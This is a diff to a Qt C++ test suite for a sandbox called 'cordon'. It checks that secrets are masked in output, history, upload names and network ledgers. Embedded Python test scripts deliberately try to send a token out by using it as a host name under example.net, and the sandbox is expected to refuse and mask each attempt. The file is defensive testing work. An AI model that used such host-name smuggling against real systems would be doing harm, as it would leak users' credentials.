@@ -31,7 +31,8 @@ namespace {
 // (percent and base64), a space and a UTF-8 letter.
 const QByteArray Secret = QByteArrayLiteral("tok-9f8e/7d6c+5b4a=\"q\\ \xc3\xa9nd-0123456789");
 // A value that can be a host name: the program tries to smuggle it out as one.
-const QByteArray HostSecret = QByteArrayLiteral("exfil7q2w9e4r8t");
+// Mixed case: a host name is recorded in lower case.
+const QByteArray HostSecret = QByteArrayLiteral("Exfil7Q2w9E4r8T");
 
 CliResult cordon(const QStringList &arguments, const QByteArray &input = {})
 {
@@ -64,11 +65,23 @@ QByteArray base64Inner(const QByteArray &encoded, int offset, int length)
 // Every form the masking promises to catch, computed here with Qt's encoders rather than the masker's.
 QList<QByteArray> formsOf(const QByteArray &value)
 {
-    QList<QByteArray> forms{value, value.toHex(), value.toHex().toUpper(), value.toPercentEncoding(),
+    QList<QByteArray> forms{value,
+                            value.toLower(),
+                            value.toHex(),
+                            value.toHex().toUpper(),
+                            value.toPercentEncoding(),
                             value.toPercentEncoding().toLower()};
-    // JSON-escaped, as json.dumps and QJsonDocument write it.
+    // JSON-escaped, as QJsonDocument and json.dumps(ensure_ascii=False) write it ...
     QByteArray json = QJsonDocument(QJsonArray{QString::fromUtf8(value)}).toJson(QJsonDocument::Compact);
-    forms.append(json.mid(2, json.size() - 4));
+    json = json.mid(2, json.size() - 4);
+    forms.append(json);
+    // ... and as json.dumps writes it by default, every non-ASCII character as \uXXXX.
+    QByteArray ascii;
+    for (const QChar c : QString::fromUtf8(json))
+        ascii += c.unicode() < 0x80
+                     ? QByteArray(1, char(c.unicode()))
+                     : QByteArray("\\u") + QByteArray::number(c.unicode(), 16).rightJustified(4, '0');
+    forms.append(ascii);
     for (int offset = 0; offset < 3; ++offset) {
         const QByteArray padded = QByteArray(offset, 'x') + value + "yz";
         forms.append(base64Inner(padded.toBase64(), offset, int(value.size())));
@@ -86,6 +99,10 @@ QByteArray leakIn(const QByteArray &haystack, const QByteArray &value)
     }
     return {};
 }
+
+// How much of a value's start may be shown when a cut or a partial print leaves it at the end of a text
+// (the masker masks from SecretMasker::MinMaskedTail bytes on).
+constexpr int MinimumShownPrefix = 4;
 
 } // namespace
 
@@ -225,7 +242,7 @@ for pad in (b"", b"a", b"ab"):
     print("b64", base64.b64encode(pad + t + b"z").decode(), base64.urlsafe_b64encode(pad + t).decode(), flush=True)
 print("hex", binascii.hexlify(t).decode(), binascii.hexlify(t).decode().upper(), flush=True)
 print("pct", urllib.parse.quote(t, safe=""), urllib.parse.quote(t, safe="").lower(), flush=True)
-print("json", json.dumps({"token": t.decode()}, ensure_ascii=False), flush=True)
+print("json", json.dumps({"token": t.decode()}, ensure_ascii=False), json.dumps(t.decode()), flush=True)
 sys.stdout.buffer.write(b"split " + t[:9]); sys.stdout.flush(); time.sleep(0.3)
 sys.stdout.buffer.write(t[9:] + b"\n"); sys.stdout.flush()
 sys.stderr.write("stderr " + t.decode() + "\n"); sys.stderr.flush()
@@ -291,6 +308,40 @@ raise RuntimeError("bad token " + os.environ["HOST_TOKEN"] + " " + t.decode())
         verifyNoLeak("history.db and its WAL", historyBytes());
     }
 
+    // A value the user typed into a command, and an upload named after one: recorded masked, and the code's
+    // hash is of what is recorded, so it cannot confirm a guess of the value.
+    void valuesInCommandsAndUploadNamesAreMasked()
+    {
+        const QString upload =
+            m_files.filePath(QStringLiteral("key-") + QString::fromUtf8(HostSecret) + QStringLiteral(".txt"));
+        QFile file(upload);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write("input\n");
+        file.close();
+        const CliResult copied = cordon({QStringLiteral("cp"), upload, m_container + QLatin1Char(':')});
+        QVERIFY2(copied.status == 0, copied.describe());
+        const CliResult run = cordon({QStringLiteral("exec"), m_container, QStringLiteral("--"),
+                                      QStringLiteral("echo"), QString::fromUtf8("typed " + HostSecret)});
+        QVERIFY2(run.out.contains("typed [secret:HOST_TOKEN]"), run.describe());
+        const CliResult exported =
+            cordon({QStringLiteral("history"), QStringLiteral("--json"), QStringLiteral("--limit"),
+                    QStringLiteral("1"), QStringLiteral("--container"), m_container});
+        verifyNoLeak("`cordon history --json`", exported.out);
+        const QJsonObject record = exported.json().value(QStringLiteral("runs")).toArray().at(0).toObject();
+        const QJsonArray command = record.value(QStringLiteral("command")).toArray();
+        QCOMPARE(command.at(1).toString(), QStringLiteral("typed [secret:HOST_TOKEN]"));
+        QCOMPARE(record.value(QStringLiteral("code_sha256")).toString(),
+                 QString::fromLatin1(
+                     QCryptographicHash::hash(QJsonDocument(command).toJson(QJsonDocument::Compact),
+                                              QCryptographicHash::Sha256)
+                         .toHex()));
+        QVERIFY2(QJsonDocument(record.value(QStringLiteral("inputs")).toArray())
+                     .toJson()
+                     .contains("key-[secret:HOST_TOKEN].txt"),
+                 exported.out);
+        verifyNoLeak("history.db and its WAL", historyBytes());
+    }
+
     // A name sent as a host: the proxy refuses it, and the ledger records the refusal without the value.
     void aSecretSentAsAHostNameIsMaskedInTheLedger()
     {
@@ -338,6 +389,74 @@ for url in (scheme + os.environ["HOST_TOKEN"] + ".example.net/", scheme + "examp
                     QStringLiteral("echo \"out $TOKEN\"")});
         QVERIFY2(json.status == 0 && json.out.contains("out [secret:API_TOKEN]"), json.describe());
         verifyNoLeak("`cordon run --json`", json.out + json.err);
+
+        // A file named after a value, taken out with --output-dir: its name is masked in what is shown.
+        const QString outputs = m_files.filePath(QStringLiteral("oneshot-outputs"));
+        const QString named =
+            writePolicy(QStringLiteral("oneshot-named"), R"({"secrets": [{"name": "HOST_TOKEN"}]})");
+        const CliResult artifacts =
+            cordon({QStringLiteral("run"), QStringLiteral("--json"), QStringLiteral("--output-dir"), outputs,
+                    QStringLiteral("--policy"), named, QStringLiteral("--"), QStringLiteral("sh"),
+                    QStringLiteral("-c"), QStringLiteral("echo x > /mnt/data/outputs/$HOST_TOKEN.txt")});
+        QVERIFY2(artifacts.status == 0 && artifacts.out.contains("[secret:HOST_TOKEN].txt"),
+                 artifacts.describe());
+        verifyNoLeak("`cordon run --output-dir --json`", artifacts.out + artifacts.err);
+
+        // Its network decisions, recorded by the daemon: also those the ledger still held when the run ended.
+        const QString networked = writePolicy(QStringLiteral("oneshot-net"),
+                                              R"({"secrets": [{"name": "HOST_TOKEN"}],
+                "network_policy": {"type": "allowlist", "allowed_domains": ["example.com"]}})");
+        const QByteArray script = R"PY(
+import os, urllib.request
+for attempt in range(8):
+    try:
+        urllib.request.urlopen("http:" + chr(47) * 2 + os.environ["HOST_TOKEN"] + ".example.net/", timeout=10)
+    except Exception as error:
+        print("refused", type(error).__name__)
+)PY";
+        const CliResult tried =
+            cordon({QStringLiteral("run"), QStringLiteral("--policy"), networked, QStringLiteral("--"),
+                    QStringLiteral("python3"), QStringLiteral("-c"), QString::fromUtf8(script)});
+        QVERIFY2(tried.out.count("refused") == 8, tried.describe());
+        verifyNoLeak("a one-shot run's network", tried.out + tried.err);
+        QTRY_VERIFY(historyBytes().contains("[secret:HOST_TOKEN].example.net"));
+        verifyNoLeak("history.db and its WAL", historyBytes());
+    }
+
+    // Output cut at its cap in the middle of a value, and masks longer than the values they replace: the
+    // start of a value does not stay behind, and what is kept stays within the cap.
+    void theOutputCapNeitherCutsAValueOpenNorGrows()
+    {
+        QVERIFY(cordon(args({"secret", "set",
+                             "A_SECRET_WITH_A_NAME_FAR_LONGER_THAN_ITS_VALUE_SO_THAT_EVERY_MASK_"
+                             "GROWS_THE_OUTPUT_BY_MORE_THAN_TEN_TIMES"}),
+                       "k8y-5ecr")
+                    .status == 0);
+        const QString policy = writePolicy(
+            QStringLiteral("capped"),
+            R"({"name": "capped", "limits": {"output_mb": 1}, "secrets": [{"name": "API_TOKEN", "env": "TOKEN"},
+                {"name": "A_SECRET_WITH_A_NAME_FAR_LONGER_THAN_ITS_VALUE_SO_THAT_EVERY_MASK_GROWS_THE_OUTPUT_BY_MORE_THAN_TEN_TIMES", "env": "SHORT"}]})");
+        QCOMPARE(cordon({QStringLiteral("create"), QStringLiteral("--policy"), policy}).status, 0);
+        // 1 MiB minus 18 bytes of filler, then the value: the cap falls inside it.
+        const CliResult cut =
+            cordon(args({"exec", "capped", "--", "sh", "-c",
+                         "head -c 1048558 /dev/zero | tr '\\0' a; printf '%s\\n' \"$TOKEN\""}));
+        QVERIFY2(cut.status == 0, cut.err);
+        QVERIFY2(cut.out.size() <= 1024 * 1024, QByteArray::number(cut.out.size()));
+        QVERIFY2(!cut.out.contains(Secret.left(MinimumShownPrefix)), cut.out.right(200));
+        QVERIFY2(cut.out.endsWith("[secret:API_TOKEN]"), cut.out.right(200));
+        QVERIFY2(!historyBytes().contains(Secret.left(MinimumShownPrefix)),
+                 "a prefix of the value is in the history");
+
+        const CliResult grown =
+            cordon({QStringLiteral("exec"), QStringLiteral("--json"), QStringLiteral("capped"),
+                    QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"),
+                    QStringLiteral("i=0; while [ $i -lt 200000 ]; do echo \"$SHORT\"; i=$((i+1)); done")});
+        const QJsonObject run = grown.json().value(QStringLiteral("run")).toObject();
+        QVERIFY2(run.value(QStringLiteral("stdout_truncated")).toBool(), grown.err);
+        QVERIFY2(grown.out.size() < 3 * 1024 * 1024, QByteArray::number(grown.out.size()));
+        QVERIFY(!grown.out.contains("k8y-5ecr"));
+        QCOMPARE(cordon(args({"rm", "--force", "capped"})).status, 0);
     }
 
     // Another container, without secrets, running beside the holder: nothing of the holder's secrets, the
@@ -439,6 +558,14 @@ for url in (scheme + os.environ["HOST_TOKEN"] + ".example.net/", scheme + "examp
     // The launcher reads the store itself: one that others may read is refused, as ssh refuses a key.
     void aStoreOthersCanReadIsRefused()
     {
+        // The daemon notices too, without a restart.
+        const QString storePath = m_dataDir + QStringLiteral("/secrets.json");
+        QCOMPARE(::chmod(QFile::encodeName(storePath).constData(), 0604), 0);
+        const CliResult listed = cordon(args({"secret", "ls"}));
+        QCOMPARE(::chmod(QFile::encodeName(storePath).constData(), 0600), 0);
+        QVERIFY2(listed.status == 1 && listed.err.contains("may be read or written by others"),
+                 listed.describe());
+        QVERIFY2(cordon(args({"secret", "ls"})).out.contains("API_TOKEN"), "the store came back");
         const QString store = m_dataDir + QStringLiteral("/secrets.json");
         QCOMPARE(::chmod(QFile::encodeName(store).constData(), 0644), 0);
         const QString policy =
